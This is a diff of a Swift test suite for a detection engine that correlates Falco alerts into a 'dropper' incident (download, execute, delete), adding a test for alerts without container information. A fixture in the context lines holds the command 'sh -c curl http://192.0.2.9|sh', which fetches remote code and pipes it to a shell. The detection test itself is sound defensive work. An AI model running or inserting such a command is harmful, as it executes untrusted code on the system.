@@ -119,6 +119,20 @@ private let dropper = "Downloaded, executed and deleted"
         #expect(scene.opened == [dropper])
     }
 
+    @Test func `a sensor that knows no containers tells of its host`() {
+        var scene = Scene()
+        for (index, var alert) in [FalcoAlert.download(), .execute(), .delete()].enumerated() {
+            alert.container = nil
+            scene.see(index == 1 ? alert.on("node-2") : alert, at: Double(index))
+        }
+        #expect(scene.opened == [])
+        for (index, var alert) in [FalcoAlert.execute(), .delete()].enumerated() {
+            alert.container = nil
+            scene.see(alert, at: Double(index + 3))
+        }
+        #expect(scene.opened == [dropper])
+    }
+
     @Test func `the fields of a rule of one's own tell it as well`() {
         var scene = Scene()
         scene.see(FalcoAlert(rule: "Our first", fields: ["proc.cmdline": "sh -c curl http://192.0.2.9|sh"]), at: 0)
